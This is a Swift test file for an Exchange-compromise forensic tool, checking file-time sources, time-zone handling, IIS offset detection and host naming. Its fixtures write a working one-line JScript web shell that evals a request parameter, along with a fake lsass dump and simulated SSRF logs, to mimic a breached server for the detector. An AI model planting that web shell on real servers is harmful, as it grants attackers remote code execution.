import Foundation
import Testing
import Hunt
import HuntCore
import Timeline
import Reports
import TestSupport

/// File times that say where they come from, time zones, and the host named from its evidence.
@Suite(.timeLimit(.minutes(20))) struct TimeAndHostTests {
    /// A plain copy of a compromised server made today: every file has the copy's time.
    func plainCopy() throws -> URL {
        let root = try tempDir()
        let rows = Exchange2013.merged(Exchange2013.steady(from: "2021-02-01", days: 40),
                                       [Exchange2013.ssrf("2021-03-03T04:15:12.000Z", 5_000)])
        try put(root, "Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021020100-1.LOG", Exchange2013.log(rows))
        try put(root, "inetpub/wwwroot/aspnet_client/shell.aspx",
                "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>")
        try put(root, "root/lsass.dmp", "MDMP")
        // The rest of the copy: the server's own pages, copied in the same minute.
        for i in 0..<40 { try put(root, "Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/15.1.2176/scripts/s\(i).js", "var a=\(i);") }
        return root
    }

    @Test func aPlainCopysTimesAreNotTheServers() async throws {
        let r = try await hunt(try plainCopy())
        let shell = try #require(r.findings.first { $0.evidence.path.hasSuffix("shell.aspx") })
        #expect(shell.timestamp == nil, "the copy's time is not when the web shell was written")
        #expect(shell.evidence.copyTime != nil)
        #expect(r.problems.contains { $0.code == "copy-times" && $0.message.contains("not the server's") })
        #expect(r.manifest.contains { $0.path.hasSuffix("shell.aspx") && $0.timeSource == "copy" })
        let story = IncidentStory(host: r.host, verdict: r.verdict, entries: r.findings.map { TimelineEntry($0, host: r.host) })
        let thisYear = String(ISOTime.day(Date()).prefix(4))
        #expect(!story.sentences.joined().contains(thisYear + "-"), "\(story.sentences)")
        #expect(story.firstCompromise.map(ISOTime.day) == "2021-03-03")
        // The log lines keep their own times.
        #expect(r.findings.contains { $0.timestamp.map(ISOTime.day) == "2021-03-03" })
    }

    @Test func aCopyMadeWhileTheLogsRunIsKnownByItsBurst() async throws {
        // Logs up to the hour of the copy: no file is later than the newest line, but the copy
        // wrote every file within the same minutes.
        let root = try plainCopy()
        let start = ISOTime.day(Date().addingTimeInterval(-10 * 86_400))
        try put(root, "Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_recent-1.LOG",
                Exchange2013.log(Exchange2013.steady(from: start, days: 11, every: 1).filter {
                    (Timestamp.parse($0["DateTime"] ?? "") ?? .distantFuture) < Date()
                }))
        let r = try await hunt(root)
        let copy = try #require(r.problems.first { $0.code == "copy-times" })
        #expect(copy.message.contains("within 10 minutes"), "\(copy.message)")
        #expect(r.findings.first { $0.evidence.path.hasSuffix("shell.aspx") }?.timestamp == nil)
    }

    @Test(.enabled(if: pythonCommand != nil, "writes the zip with python3's zipfile"))
    func zipExtraFieldsGiveTheServersTimes() async throws {
        let dir = try tempDir()
        let zip = dir.appendingPathComponent("collection.zip")
        // Entry 1: NTFS extra field (FILETIME of 2021-03-03T05:00:00Z), as 7-Zip writes it; entry 2:
        // extended timestamp (2021-03-04T06:00:00Z) on a Velociraptor upload path, as its container
        // (Go's zip writer) records the uploaded file's mtime; entry 3: DOS time only. Every DOS
        // time says 2026.
        let script = """
            import struct, sys, zipfile
            def ntfs(unix):
                ft = int((unix + 11644473600) * 10**7)
                body = struct.pack('<I', 0) + struct.pack('<HH', 1, 24) + struct.pack('<QQQ', ft, ft, ft)
                return struct.pack('<HH', 0x000A, len(body)) + body
            def ut(unix):
                body = bytes([1]) + struct.pack('<i', unix)
                return struct.pack('<HH', 0x5455, len(body)) + body
            with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:
                for name, extra in [('C/inetpub/wwwroot/aspnet_client/a.aspx', ntfs(1614747600)),
                                    ('uploads/auto/C%3A/inetpub/wwwroot/aspnet_client/b.aspx', ut(1614837600)),
                                    ('C/inetpub/wwwroot/aspnet_client/c.aspx', b'')]:
                    i = zipfile.ZipInfo(name, date_time=(2026, 11, 30, 12, 0, 0))
                    i.extra = extra
                    z.writestr(i, '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>')
            """
        let py = dir.appendingPathComponent("make.py")
        try script.write(to: py, atomically: true, encoding: .utf8)
        let made = try run(try #require(pythonCommand), [py.path, zip.path])
        #expect(made.status == 0)
        let r = try await hunt(zip)
        func time(_ name: String) -> String? {
            r.findings.first { $0.evidence.path.hasSuffix(name) }?.timestamp.map { ISOTime.string($0, milliseconds: false) }
        }
        #expect(time("a.aspx") == "2021-03-03T05:00:00Z")
        #expect(time("b.aspx") == "2021-03-04T06:00:00Z")
        #expect(r.manifest.first { $0.path.hasSuffix("a.aspx") }?.timeSource == "zip-ntfs")
        #expect(r.manifest.first { $0.path.hasSuffix("b.aspx") }?.timeSource == "zip-extended-timestamp")
        // A DOS time only, and no log to place it against: it may be the zip's making, so it is set aside.
        #expect(r.manifest.first { $0.path.hasSuffix("c.aspx") }?.timeSource == "copy")
        #expect(time("c.aspx") == nil)
    }

    @Test func aTimestampWithAnOffsetIsConverted() {
        #expect(Timestamp.parse("2021-03-03T06:15:12.345+02:00").map { ISOTime.string($0) } == "2021-03-03T04:15:12.345Z")
        #expect(Timestamp.parse("2021-03-02T23:15:12-0500").map { ISOTime.string($0, milliseconds: false) } == "2021-03-03T04:15:12Z")
        #expect(Timestamp.parse("2021-03-03T04:15:12Z").map { ISOTime.string($0, milliseconds: false) } == "2021-03-03T04:15:12Z")
        // IIS: a space, then the next field; nothing is taken for an offset.
        #expect(Timestamp.parse("2021-03-03 04:15:12 10.0.0.1 GET").map { ISOTime.string($0, milliseconds: false) } == "2021-03-03T04:15:12Z")
    }

    @Test func anExportWithLocalTimesAndOffsetsIsReadInUTC() async throws {
        let root = try tempDir()
        let rows = Exchange2013.merged(Exchange2013.steady(from: "2020-12-20", days: 90),
                                       [Exchange2013.ssrf("2021-03-03T06:15:12.000+02:00", 5_000)])
        try put(root, "Logging/HttpProxy/Ecp/HttpProxy_2020122000-1.LOG", Exchange2013.log(rows))
        let r = try await hunt(root)
        let hit = try #require(r.findings.first { $0.rule.id == RuleID.backend })
        #expect(hit.timestamp.map { ISOTime.string($0, milliseconds: false) } == "2021-03-03T04:15:12Z")
    }

    @Test func twoServersSideBySideAreTwoHostsNamedFromTheirLogs() throws {
        let root = try tempDir()
        for (folder, server) in [("collection-a", "EXCH01"), ("collection-b", "EXCH02")] {
            var rows = Exchange2013.steady(from: "2020-12-20", days: 90)
            for i in rows.indices { rows[i]["ServerHostName"] = server }
            try put(root, "\(folder)/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2020122000-1.LOG",
                    Exchange2013.log(rows))
        }
        let json = root.appendingPathComponent("out/report.json")
        try FileManager.default.createDirectory(at: json.deletingLastPathComponent(), withIntermediateDirectories: true)
        let r = try runCLI(["hunt", root.path, "-o", json.path, "--quiet", "--no-progress"])
        #expect(r.status == 0, "\(r.stdout) \(r.stderr)")
        #expect(r.stdout == "clean EXCH01\nclean EXCH02\n")
        let a = try JSONReport.decode(try Data(contentsOf: json.deletingLastPathComponent().appendingPathComponent("report-collection-a.json")))
        let b = try JSONReport.decode(try Data(contentsOf: json.deletingLastPathComponent().appendingPathComponent("report-collection-b.json")))
        #expect(a.host == "EXCH01" && b.host == "EXCH02")
        #expect(a.hostSource == "HttpProxy ServerHostName")
        // --host keeps the folder one host, named as told.
        let one = try runCLI(["hunt", root.path, "--host", "fleet", "--quiet", "--no-progress"])
        #expect(one.stdout.hasPrefix("clean fleet") || one.stdout.hasPrefix("inconclusive fleet"), "\(one.stdout)")
    }

    @Test func iisWritingLocalTimeIsFlagged() async throws {
        // Business hours only (a small office): HttpProxy at 08-17 UTC; IIS `shift` hours ahead.
        func collection(iisShift shift: Int) throws -> URL {
            let root = try tempDir("iis\(shift)")
            var rows: [[String: String]] = []
            var iis = "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\r\n"
            let t0 = ISO8601DateFormatter().date(from: "2021-01-04T00:00:00Z")!
            for day in 0..<20 {
                for hour in 8...17 {
                    let t = t0.addingTimeInterval(Double(day * 86_400 + hour * 3600 + 600))
                    rows.append(Exchange2013.ordinary(ISO8601DateFormatter().string(from: t).replacingOccurrences(of: "Z", with: ".000Z"), day * 24 + hour))
                    let local = ISO8601DateFormatter().string(from: t.addingTimeInterval(Double(shift * 3600)))
                        .replacingOccurrences(of: "T", with: " ").replacingOccurrences(of: "Z", with: "")
                    iis += "\(local) 10.0.0.5 GET /owa/service.svc - 443 CONTOSO\\u1 192.0.2.7 Mozilla/5.0 200 0 0 12\r\n"
                }
            }
            try put(root, "Logging/HttpProxy/Owa/HttpProxy_2021010400-1.LOG", Exchange2013.log(rows))
            try put(root, "inetpub/logs/LogFiles/W3SVC1/u_ex210104.log", iis)
            return root
        }
        let r = try await hunt(try collection(iisShift: 2))
        let flag = try #require(r.problems.first { $0.code == "iis-time-offset" }, "\(r.problems.map(\.code))")
        #expect(flag.message.contains("-2 h"), "\(flag.message)")
        // Written in UTC, the same logs raise nothing.
        #expect(try await hunt(try collection(iisShift: 0)).problems.contains { $0.code == "iis-time-offset" } == false)
    }
}
